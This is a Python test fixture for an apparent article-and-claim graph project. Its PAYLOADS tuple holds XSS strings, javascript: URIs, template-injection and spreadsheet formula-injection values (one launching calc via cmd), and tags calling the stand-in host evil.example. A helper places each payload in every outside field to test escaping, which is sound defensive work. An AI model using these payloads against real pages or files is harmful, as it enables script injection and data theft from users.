"""Text that attacks a page: markup, scripts, addresses, templates, formulas, tricks with characters.

`selected_of` puts each into every field that comes from outside. Whatever runs would set `ran` on the window, or ask
`evil.example` for something.
"""

from __future__ import annotations

from graph.model import Article, Claim, Entity, Quantity
from graph.selection import Selected
from tests.graph.builders import gather_facts, make_article, make_claim

_RUN = "window.ran=1"

PAYLOADS = (
    f"<script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"</ScRiPt ><sCrIpT>{_RUN}</sCrIpT>",
    "<script src=https://evil.example/x.js></script>",
    f"<!--<script>{_RUN}</script>-->",
    f"--><script>{_RUN}</script><!--",
    f"]]><script>{_RUN}</script>",
    f"<![CDATA[<script>{_RUN}</script>]]>",
    f"<img src=x onerror={_RUN}>",
    f'"><img src=x onerror="{_RUN}">',
    f"'><img src=x onerror='{_RUN}'>",
    "<img src=https://evil.example/pixel.png>",
    f"<a href=x>href</a><img src=x onerror={_RUN}>",
    f"href <img src=x onerror={_RUN}>",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    "<svg><use href=https://evil.example/x.svg#x></use></svg>",
    f"<math><mi//xlink:href=\"javascript:{_RUN}\">",
    f"<iframe src=\"javascript:{_RUN}\"></iframe>",
    f"<iframe srcdoc=\"<script>parent.{_RUN}</script>\"></iframe>",
    "<iframe src=https://evil.example></iframe>",
    f"<object data=\"javascript:{_RUN}\"></object>",
    "<embed src=https://evil.example/x.swf>",
    f"<body onload={_RUN}>",
    f"<details open ontoggle={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    f"<audio src=x onerror={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<select autofocus onfocus={_RUN}>",
    f"<marquee onstart={_RUN}>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>*{background:url(https://evil.example/x)}</style>",
    "</style><link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=prefetch href=https://evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><button autofocus>",
    f"</title><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f"</noscript><img src=x onerror={_RUN}>",
    f"<template><script>{_RUN}</script></template>",
    f"javascript:{_RUN}",
    f"JaVaScRiPt:{_RUN}",
    f" javascript:{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    f"vbscript:{_RUN}",
    "//evil.example/x",
    f"https://news.example/\" onclick=\"{_RUN}",
    "https://user:password@evil.example/?<b>",
    "{{ 7*7 }}{% for x in y %}",
    "{{ self.__init__.__globals__ }}",
    "${window.ran=1}`${window.ran=1}`",
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"&#60;script&#62;{_RUN}&#60;/script&#62;",
    f"\";{_RUN};//",
    f"';{_RUN};//",
    f"\u2028{_RUN}\u2029//",
    f"\\\";{_RUN};//\n{_RUN}",
    "=HYPERLINK(\"https://evil.example\",\"x\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\u202egnp.evil\u202c \u0000\u0008\ufeff",
    "\ud800 half a character",
    "__proto__",
    "constructor",
    "a" * 4000,
    "Z\u0351\u0334a\u0336l\u0338g\u0335o\u0334" * 20,
)  # fmt: skip


def selected_of(payloads: tuple[str, ...] = PAYLOADS) -> Selected:
    """Return a selection in which each payload is a name, an alias, a title, a publisher, a link, a sentence, ..."""
    entities, articles, claims = [], [], []
    for number, payload in enumerate(payloads):
        articles.append(_article(number, payload))
        pair = [_entity(f"org:{number:03d}-{end}", payload, end) for end in "ab"]
        entities += pair
        claims += _claims(articles[-1], payload, *pair)
    entities.append(Entity('org:"><script>window.ran=1</script>', "Group", "hostile id", minted=True))
    claims.append(_claims(articles[0], payloads[0], entities[0], entities[-1])[0])
    claims.sort(key=lambda claim: claim.id)
    articles.sort(key=lambda article: article.id)
    entities.sort(key=lambda entity: entity.id)
    return Selected(tuple(entities), tuple(articles), tuple(claims), tuple(gather_facts(claims, articles)))


def _entity(entity_id: str, payload: str, end: str) -> Entity:
    return Entity(entity_id, "Company", payload, (f"{payload} {end}",), payload, payload, payload, payload)


def _article(number: int, payload: str) -> Article:
    fields = dict.fromkeys(("title", "publisher", "agency", "published", "url", "source"), payload)
    # The id of an article is made of its text, where half a character cannot be.
    is_whole = payload.isprintable() or "\ud800" not in payload
    return make_article(f"{number}: {payload if is_whole else ''} ships arms.", **fields)


def _claims(article: Article, payload: str, one: Entity, other: Entity) -> list[Claim]:
    return [
        make_claim(
            article, subject=one.id, object=other.id, status=status, asserted_by=(other.id,), marks=((2, 9),),
            quantity=Quantity(3, "min", payload),
        )
        for status in ("affirmed", "denied")
    ]  # fmt: skip
